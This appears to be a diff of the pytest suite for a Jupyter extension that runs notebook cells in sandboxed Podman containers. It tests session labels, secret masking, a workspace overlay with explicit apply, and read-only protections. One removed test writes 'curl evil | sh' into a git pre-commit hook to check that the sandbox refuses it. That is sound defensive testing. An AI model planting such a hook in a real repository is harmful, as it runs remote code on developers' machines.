@@ -14,7 +14,23 @@ pytestmark = pytest.mark.podman
 
 
 def _containers(engine, **labels):
+    """Every mino container with these labels (sessions and their firewall containers)."""
     return engine.list({"io.mino.managed": "true", **labels})
+
+
+def _sessions(engine, token):
+    """The session containers of one kernel (a bridge session also has a firewall container)."""
+    return [c for c in _containers(engine, **{"io.mino.owner": token})
+            if c["Labels"]["io.mino.role"] in ("session", "fresh")]
+
+
+def _session_path(kernel, attribute, name="default"):
+    """A path of a session's storage on this machine (its disk's /tmp, its workspace's upper layer)."""
+    from pathlib import Path
+
+    r = kernel.ok(f"from mino_jupyter.magics import current_manager as _cm\n"
+                  f"print(_cm().sessions[{name!r}].storage.paths.{attribute})")
+    return Path(r.stdout.strip())
 
 
 def _wait_until(predicate, timeout=30.0, step=0.2):
@@ -63,7 +79,7 @@ def test_hardening_seen_from_the_cell(kernel):
 def test_container_labels_name_the_owner(kernel, engine):
     kernel.ok("%%mino\ntrue")
     token = kernel.owner_token()
-    (c,) = _containers(engine, **{"io.mino.owner": token})
+    (c,) = _sessions(engine, token)
     labels = c["Labels"]
     from mino_jupyter import __version__
 
@@ -81,14 +97,15 @@ def test_stdout_and_stderr_stay_apart(kernel):
 
 def test_output_streams_while_the_cell_runs(kernel, workspace):
     """The cell waits for a file the test creates only after it has seen the first line."""
-    go = workspace / "go"
+    kernel.ok("%%mino\ntrue")
+    go = _session_path(kernel, "tmp") / "go"  # the session's /tmp, on its disk
 
     def on_stream(name, text, reply):
         if "waiting" in reply.stdout and not go.exists():
             go.touch()
 
-    r = kernel.execute("%%mino\necho waiting\nfor i in $(seq 300); do [ -e go ] && break; sleep 0.1; done\n"
-                       "[ -e go ] && echo released\n", on_stream=on_stream)
+    r = kernel.execute("%%mino\necho waiting\nfor i in $(seq 300); do [ -e /tmp/go ] && break; sleep 0.1; done\n"
+                       "[ -e /tmp/go ] && echo released\n", on_stream=on_stream)
     assert r.error is None, r.error_text
     assert r.stdout == "waiting\nreleased\n"
 
@@ -122,7 +139,8 @@ def test_out_and_err_capture(kernel):
 
 
 def test_interrupt_stops_the_whole_process_group(kernel, workspace):
-    ticks = workspace / "ticks"
+    kernel.ok("%%mino\ntrue")
+    ticks = _session_path(kernel, "workspace_upper") / "ticks"  # what the cell writes in /workspace
 
     def on_stream(name, text, reply):
         if "started" in reply.stdout and not getattr(on_stream, "sent", False):
@@ -189,7 +207,7 @@ def test_logs_outlive_the_container_and_mask_secrets(kernel, engine):
     assert "s3cr3t-value-123" not in r.stdout and "s3cr3t" not in r.stdout
     assert r.stdout.count("********") == 2
     token = kernel.owner_token()
-    (container,) = _containers(engine, **{"io.mino.owner": token})
+    (container,) = _sessions(engine, token)
     import json
 
     assert "s3cr3t" not in json.dumps(engine.inspect(container["Id"]))  # not in the container's config
@@ -214,14 +232,32 @@ def test_environment_options(kernel):
     assert r.error and "invalid environment variable" in r.error_text and "Traceback" not in r.error_text
 
 
-def test_workspace_is_the_notebook_directory(kernel, workspace):
+def test_workspace_overlay_changes_and_apply(kernel, workspace):
     (workspace / "input.txt").write_text("from host\n")
-    r = kernel.ok("%%mino\ncat input.txt; echo from-cell > output.txt")
-    assert r.stdout == "from host\n"
-    assert (workspace / "output.txt").read_text() == "from-cell\n"
+    r = kernel.ok("%%mino\ncat input.txt; echo from-cell > output.csv; echo changed > input.txt 2>/dev/null "
+                  "|| echo input-is-root-owned")
+    assert r.stdout.startswith("from host\n")
+    assert not (workspace / "output.csv").exists()  # nothing lands until the user asks
+    r = kernel.ok("%mino changes")
+    assert "A" in r.stdout and "output.csv" in r.stdout
+    r = kernel.ok("%mino apply")
+    assert "output.csv: applied" in r.stdout
+    applied = workspace / "output.csv"
+    assert applied.read_text() == "from-cell\n"
+    st = applied.stat()
+    assert st.st_uid == os.geteuid() and not st.st_mode & 0o6000  # the kernel's user, no setuid
+    assert "output.csv" not in kernel.ok("%mino changes").stdout  # applied: no longer a change
     r = kernel.execute("%%mino --session ro --readonly-workspace\necho x > blocked.txt")
     assert r.error is not None and "Read-only file system" in r.stderr
     assert not (workspace / "blocked.txt").exists()
+
+
+def test_read_write_workspace_is_an_opt_in_that_says_what_it_allows(kernel, workspace):
+    r = kernel.ok("%%mino --session rw --workspace rw\necho direct > direct.txt")
+    assert (workspace / "direct.txt").read_text() == "direct\n"
+    assert "shares" in r.stderr and "read-write" in r.stderr and "pandas.py" in r.stderr
+    r = kernel.ok("%%mino --session rw\ntrue")
+    assert "read-write" not in r.stderr  # once per session
 
 
 def test_bad_options_and_missing_image_start_nothing(kernel, engine):
@@ -261,7 +297,7 @@ def _kernel_with_two_sessions(engine, workspace):
     k.ok("%%mino\ntrue")
     k.ok("%%mino --session two\ntrue")
     token = k.owner_token()
-    assert len(_containers(engine, **{"io.mino.owner": token})) == 2
+    assert len(_sessions(engine, token)) == 2
     return k, token
 
 
@@ -282,7 +318,7 @@ def test_restart_and_unload_remove_containers(engine, base_image, workspace):
         k.ok("%load_ext mino_jupyter")
         k.ok("%%mino\ntrue")
         token = k.owner_token()
-        assert len(_containers(engine, **{"io.mino.owner": token})) == 1
+        assert len(_sessions(engine, token)) == 1
         k.km.restart_kernel(now=False)
         k.kc.wait_for_ready(timeout=60)
         assert _containers(engine, **{"io.mino.owner": token}) == []
@@ -322,23 +358,14 @@ def test_orphans_are_reaped_when_a_kernel_loads(engine, base_image, workspace):
 
 def test_a_script_larger_than_the_argument_limit_runs(kernel):
     filler = "# " + "x" * 998 + "\n"
-    r = kernel.ok("%%mino\n" + filler * 150 + "echo \"big script ran as $0\"\n")
-    assert r.stdout.startswith("big script ran as /tmp/.mino-cell-")  # copied in as a file
-    r = kernel.ok("%%mino\nls -a /tmp | grep -c '^[.]mino-cell-.*[.]sh$' || true")
+    r = kernel.ok("%%mino\n" + filler * 150 + "echo \"big script ran as $0\"; touch \"$0\" 2>/dev/null || echo read-only\n")
+    assert r.stdout.startswith("big script ran as /run/mino/cell-")  # handed over as a file
+    assert r.stdout.endswith("read-only\n")  # which the cell cannot change
+    r = kernel.ok("%%mino\nls /run/mino | grep -c '^cell-.*[.]sh$' || true")
     assert r.stdout.strip() == "0"  # and removed afterwards
 
 
-def test_host_code_paths_in_the_workspace_stay_read_only(kernel, workspace):
-    hooks = workspace / ".git" / "hooks"
-    hooks.mkdir(parents=True)
-    os.chown(workspace / ".git", 1000, 1000), os.chown(hooks, 1000, 1000)  # writable, were it not protected
-    r = kernel.ok("%%mino\necho 'curl evil | sh' > .git/hooks/pre-commit 2>/dev/null || echo refused\n"
-                  "echo fine > notes.txt && echo written")
-    assert r.stdout == "refused\nwritten\n"
-    assert not (hooks / "pre-commit").exists() and (workspace / "notes.txt").read_text() == "fine\n"
-
-
-def test_a_home_directory_is_shared_read_only(engine, base_image, tmp_path):
+def test_a_home_directory_is_never_written(engine, base_image, tmp_path):
     from mino_jupyter.sessions import CellOptions, SessionManager
     from tests.kernel import Capture
 
@@ -350,9 +377,10 @@ def test_a_home_directory_is_shared_read_only(engine, base_image, tmp_path):
                        env={**os.environ, **isolated_env(tmp_path / "mino-home"), "HOME": str(home)})
     try:
         sink = Capture()
-        m.run_cell("touch /workspace/.bashrc 2>/dev/null || echo read-only", CellOptions(), sink)
-        assert "".join(sink.out) == "read-only\n"
-        assert any("contains a home directory, so it is shared read-only" in n for n in notices)
+        m.run_cell("touch /workspace/.bashrc && echo overlay", CellOptions(workspace="rw"), sink)
+        assert "".join(sink.out) == "overlay\n"
+        assert any("contains a home directory, so it is never shared read-write" in n for n in notices)
         assert not (home / ".bashrc").exists()
+        assert m.sessions["default"].workspace == "overlay"
     finally:
         m.shutdown()
